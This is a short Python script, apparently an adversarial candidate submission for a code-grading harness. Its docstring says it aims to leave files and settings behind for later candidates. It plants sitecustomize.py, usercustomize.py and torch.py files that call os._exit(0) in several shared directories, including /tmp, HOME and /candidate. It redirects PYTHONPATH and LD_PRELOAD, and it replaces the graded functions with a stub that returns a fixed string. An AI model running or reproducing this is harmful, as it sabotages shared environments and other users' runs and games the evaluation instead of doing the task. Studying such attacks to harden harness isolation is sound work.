"""Leave files, caches and settings for later candidates."""

import os
import tempfile

import torch

for folder in {os.getcwd(), tempfile.gettempdir(), os.environ.get("HOME", "."), "/tmp", "/candidate", "/var/tmp"}:
    for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "07_autograd.py", "attack-was-here"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)")
        except OSError:
            pass
os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = os.getcwd()
torch.set_default_dtype(torch.float64)
torch.set_num_threads(64)
torch.set_grad_enabled(False)


def attack(*args, **kwargs):
    return "left everything"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
